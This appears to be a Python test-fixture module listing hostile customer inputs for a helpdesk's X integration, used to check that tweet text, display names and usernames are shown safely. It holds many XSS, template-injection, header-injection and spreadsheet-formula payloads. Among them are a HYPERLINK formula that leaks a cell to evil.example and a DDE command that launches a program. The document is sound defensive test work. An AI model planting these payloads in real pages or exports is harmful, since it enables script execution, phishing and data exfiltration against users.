"""Hostile customer input: tweet texts, display names and usernames, each naming what it attacks.

Payloads that would run call `__pwned.push("<name>")`, so a browser test that defines
`window.__pwned = []` before any page script sees exactly which one got through.

The rule at the X boundary (helpdesk/x/parse.py): customer text is stored exactly as
decoded, except lone surrogates (an unpaired "\\ud800" JSON escape) and NUL, which no
database stores and no page shows: each becomes U+FFFD. `Hostile.stored` says what the
helpdesk keeps.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

REPLACEMENT = "\ufffd"
_UNSTORABLE = re.compile("[\ud800-\udfff\x00]")

#  Excel, LibreOffice and Google Sheets read a cell starting with one of these as a formula
#  (OWASP "CSV Injection"), Japanese Excel also the full-width forms.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@dataclass(frozen=True)
class Hostile:
    """One hostile value: `field` is "text", "name" or "username"."""

    name: str
    field: str
    value: str
    attacks: str

    @property
    def stored(self) -> str:
        """What the helpdesk stores and shows for `value`."""
        return stored(self.value)

    @property
    def needs_json_escapes(self) -> bool:
        """A lone surrogate exists on the wire only as a JSON escape; no UTF-8 body holds it."""
        return re.search("[\ud800-\udfff]", self.value) is not None


def stored(value: str) -> str:
    """What the helpdesk keeps of a value X sent: it exactly, lone surrogates and NUL as U+FFFD."""
    return _UNSTORABLE.sub(REPLACEMENT, value)


def _text(name: str, value: str, attacks: str) -> Hostile:
    return Hostile(name, "text", value, attacks)


def _name(name: str, value: str, attacks: str) -> Hostile:
    return Hostile(name, "name", value, attacks)


def _user(name: str, value: str, attacks: str) -> Hostile:
    return Hostile(name, "username", value, attacks)


ZALGO = "Z" + "\u0336\u0321\u0322\u031b\u0310\u030d\u0352" * 12 + "algo"

CORPUS: tuple[Hostile, ...] = (
    # -- markup in element content ------------------------------------------------------
    _text(
        "script-tag",
        "<script>__pwned.push('script-tag')</script>",
        "HTML injection: a script element in element content",
    ),
    _text(
        "script-mixed-case",
        '<ScRiPt >__pwned.push("script-mixed-case")</sCrIpT >',
        "filters that only look for lowercase <script>",
    ),
    _text(
        "img-onerror",
        "<img src=x onerror=\"__pwned.push('img-onerror')\">",
        "an event handler that fires without interaction (broken image)",
    ),
    _text(
        "svg-onload",
        "<svg onload=\"__pwned.push('svg-onload')\"><circle r=9 /></svg>",
        "SVG in HTML: onload fires when the element is inserted",
    ),
    _text(
        "svg-script",
        "<svg><script>__pwned.push('svg-script')</script></svg>",
        "a script inside foreign (SVG) content",
    ),
    _text(
        "details-ontoggle",
        "<details open ontoggle=\"__pwned.push('details-ontoggle')\">x</details>",
        "an event handler that fires on insertion with no user action",
    ),
    _text(
        "iframe-srcdoc",
        "<iframe srcdoc=\"<script>parent.__pwned.push('iframe-srcdoc')</script>\"></iframe>",
        "a nested document with its own script",
    ),
    _text(
        "noscript-mxss",
        "<noscript><p title=\"</noscript><img src=x onerror=__pwned.push('mxss')>\">",
        "mutation XSS: markup that parses differently once re-serialised",
    ),
    _text(
        "html-entities",
        "&lt;script&gt; &amp;amp; &#x3C;img src=x onerror=__pwned.push('entities')&#x3E;",
        "double decoding: entities must show as typed, not be decoded into markup",
    ),
    _text(
        "base-tag",
        '<base href="https://evil.example/">relative links now point elsewhere',
        "a <base> element that rewrites every relative URL of the page",
    ),
    _text(
        "meta-refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "a redirect of the agent's browser to a phishing page",
    ),
    _text(
        "form-phish",
        '<form action="https://evil.example/login"><input name=password>'
        "<button>Sign in again</button></form>",
        "a fake sign-in form inside the page",
    ),
    # -- breaking out of the context the text is put in ----------------------------------
    _text(
        "textarea-breakout",
        "</textarea><script>__pwned.push('textarea-breakout')</script>",
        "leaving a <textarea> (a composer prefilled with the customer's words)",
    ),
    _text(
        "script-breakout",
        "</script><script>__pwned.push('script-breakout')</script>",
        "leaving an inline <script> or JSON data block that embeds the text",
    ),
    _text(
        "json-breakout",
        "\"}]});__pwned.push('json-breakout');//",
        "leaving a JSON or JavaScript string literal",
    ),
    _text(
        "attr-double-quote",
        '" onmouseover="__pwned.push(\'attr-double-quote\')" autofocus '
        "onfocus=\"__pwned.push('attr-double-quote-focus')",
        'leaving a double-quoted attribute (title="...", value="...", data-*="...")',
    ),
    _text(
        "attr-single-quote",
        "' onfocus='__pwned.push(\"attr-single-quote\")' autofocus x='",
        "leaving a single-quoted attribute",
    ),
    _text(
        "attr-unquoted",
        "x onmouseover=__pwned.push('attr-unquoted') tabindex=1 ",
        "leaving an unquoted attribute",
    ),
    _text(
        "js-escapes",
        "\\x3cscript\\x3e__pwned.push('js-escapes')\\x3c/script\\x3e \\u003cb\\u003e",
        "JavaScript string escapes that a JS-string embedding would decode",
    ),
    # -- URLs ------------------------------------------------------------------------------
    _text(
        "a-javascript",
        "<a href=\"javascript:__pwned.push('a-javascript')\">track my order</a>",
        "a javascript: link in markup",
    ),
    _text(
        "javascript-url",
        "javascript:__pwned.push('javascript-url')//https://example.com/order",
        "a javascript: URL as plain text that an auto-linker would turn into an href",
    ),
    _text(
        "data-url",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "a data: URL document, for an auto-linker",
    ),
    _text(
        "markdown-link",
        "[Click here for a refund](javascript:__pwned.push('markdown-link'))",
        "a markdown link to javascript:",
    ),
    _text(
        "markdown-image",
        "![receipt](https://evil.example/pixel.png) **urgent** <https://evil.example/>",
        "markdown that would render, load a tracking pixel or auto-link",
    ),
    # -- CSS -------------------------------------------------------------------------------
    _text(
        "style-tag",
        "<style>body{display:none} main::after{content:'hacked'}</style>",
        "a style element that hides or rewrites the page",
    ),
    _text(
        "style-overlay",
        '<div style="position:fixed;inset:0;z-index:9999;background:#c00">Session expired</div>',
        "an inline style that covers the whole page (clickjacking inside the app)",
    ),
    _text(
        "css-url",
        "<p style=\"background:url(javascript:__pwned.push('css-url'))\">x</p>",
        "a javascript: URL in CSS",
    ),
    # -- template engines --------------------------------------------------------------
    _text(
        "jinja-expression",
        "{{7*7}} {{ config }} {{ ''.__class__.__mro__ }}",
        "server-side template injection (must show literally, never 49)",
    ),
    _text(
        "jinja-statement",
        "{% for x in range(3) %}loop{% endfor %}{% debug %}{# comment #}",
        "template statements and comments",
    ),
    _text(
        "js-template",
        "${7*7} ${alert(1)} #{7*7} <%= 7*7 %>",
        "JavaScript template literals and other template syntaxes",
    ),
    # -- headers, control characters, formulas -------------------------------------------
    _text(
        "crlf-encoded",
        "%0d%0aSet-Cookie:%20pwned=1%0d%0aLocation:%20https://evil.example/",
        "HTTP header injection if the text reaches a header or a redirect",
    ),
    _text(
        "crlf-raw",
        "line one\r\nSet-Cookie: pwned=1\r\n\r\n<b>body</b>",
        "raw CR LF: header splitting, CSV row splitting",
    ),
    _text(
        "null-byte",
        "before\x00<script>__pwned.push('null-byte')</script>after",
        "a NUL that truncates C strings or hides what follows from a filter",
    ),
    _text(
        "ansi-escape",
        "\x1b[2J\x1b[31mRED ALERT\x1b[0m\x07\x08\x7f",
        "terminal escape and control characters (logs, terminals)",
    ),
    _text(
        "formula-equals",
        '=HYPERLINK("https://evil.example/?leak="&A1,"Open receipt")',
        "CSV/spreadsheet formula injection",
    ),
    _text(
        "formula-dde",
        "+cmd|' /C calc'!A0",
        "a DDE formula that runs a program when the CSV is opened",
    ),
    _text(
        "formula-fullwidth",
        "＝1+1　全角のイコール",
        "a full-width equals sign that Japanese spreadsheets read as a formula",
    ),
    _text(
        "lone-surrogate-text",
        "half of an emoji: \ud83d and a lone low \udc00 end",
        "lone surrogates from JSON escapes: no UTF-8 database holds them",
    ),
    # -- layout and Unicode -----------------------------------------------------------------
    _text(
        "long-word",
        "A" * 5000,
        "layout: a 5,000-character word without a space",
    ),
    _text(
        "long-url",
        "https://example.com/" + "a1" * 1500,
        "layout: a 3,000-character URL without a break",
    ),
    _text(
        "zalgo",
        ZALGO + " " + ZALGO,
        "layout: stacked combining marks that draw over the lines around them",
    ),
    _text(
        "rtl-override-text",
        "Refund of \u202e0001$ detaR\u202c please, file \u202egpj.exe",
        "RTL override (U+202E): text that reads differently from what it is",
    ),
    _text(
        "zero-width-text",
        "pay\u200bpal\u200c.com \u200d\u2060\ufeffhidden\u200b",
        "zero-width characters that hide or split words",
    ),
    _text(
        "emoji-zwj",
        "👨\u200d👩\u200d👧\u200d👦 👩🏽\u200d💻 🏳️\u200d🌈 🧑\u200d🤝\u200d🧑 😀",
        "emoji ZWJ sequences and skin tones (counting, cutting, rendering)",
    ),
    _text(
        "japanese",
        "注文した商品がまだ届きません。＜script＞至急＜/script＞確認してください！",
        "Japanese text with full-width angle brackets",
    ),
    # -- display names ----------------------------------------------------------------------
    _name(
        "name-script",
        "<script>__pwned.push('name-script')</script>",
        "a display name carrying a script element",
    ),
    _name(
        "name-img",
        "<img src=x onerror=__pwned.push('name-img')>",
        "a display name carrying an event handler",
    ),
    _name(
        "name-attr-breakout",
        "\"><svg onload=__pwned.push('name-attr')>",
        "a display name leaving a title/alt attribute",
    ),
    _name(
        "name-title-breakout",
        "</title><script>__pwned.push('name-title')</script>",
        "a display name leaving the <title> element",
    ),
    _name(
        "name-template",
        "{{7*7}} ${7*7} {% raw %}",
        "template injection in a display name",
    ),
    _name(
        "name-rtl-override",
        "Acme Support \u202e",
        "an unterminated RTL override that reverses the username shown after the name",
    ),
    _name(
        "name-zero-width",
        "acme\u200b_help\u200d Official\u2060",
        "impersonating the brand with invisible characters",
    ),
    _name(
        "name-10000",
        "W" * 10_000,
        "layout: a 10,000-character display name without a space",
    ),
    _name(
        "name-10000-words",
        "長い名前の顧客 " * 1250,
        "layout: a 10,000-character Japanese display name with spaces",
    ),
    _name("name-emoji", "👩\u200d👩\u200d👧\u200d👧 Family 🇯🇵", "emoji ZWJ in a display name"),
    _name("name-japanese", "田中 花子＜管理者＞", "Japanese display name with full-width brackets"),
    _name("name-formula", "=1+2", "formula injection through the author column of a CSV"),
    _name(
        "name-lone-surrogate",
        "Half \udc00 a name",
        "a lone surrogate in a display name",
    ),
    # -- usernames (X allows [A-Za-z0-9_]{1,15}; the helpdesk must not rely on that) -------
    _user("user-javascript", "javascript", "a valid username that looks like a URL scheme"),
    _user(
        "user-script",
        "<script>__pwned.push(1)</script>",
        "markup in a username",
    ),
    _user(
        "user-attr-breakout",
        '"onmouseover=__pwned.push(2)',
        "a username leaving an attribute",
    ),
    _user(
        "user-javascript-url",
        "javascript:__pwned.push(3)",
        "a username that would become a javascript: URL in a profile link",
    ),
    _user(
        "user-path",
        "../../admin?x=1#a b&c=d%2F",
        "path traversal and URL syntax in a username put into a link",
    ),
    _user(
        "user-title-breakout",
        "</title><b>x</b>",
        "a username leaving the page's <title> (the mention page's title is @username)",
    ),
    _user("user-rtl", "\u202enimda_emca", "RTL override in a username"),
    _user("user-zero-width", "acme_help\u200b", "the brand's handle plus a zero-width space"),
    _user("user-formula", "@SUM(1+1)", "formula injection through the username column"),
    _user("user-lone-surrogate", "ab\ud83dcd", "a lone surrogate in a username"),
)

BY_NAME = {entry.name: entry for entry in CORPUS}
assert len(BY_NAME) == len(CORPUS), "corpus names are unique"


def starts_like_a_formula(value: str) -> bool:
    """Whether a spreadsheet would read this cell as a formula."""
    return value.startswith(FORMULA_PREFIXES)
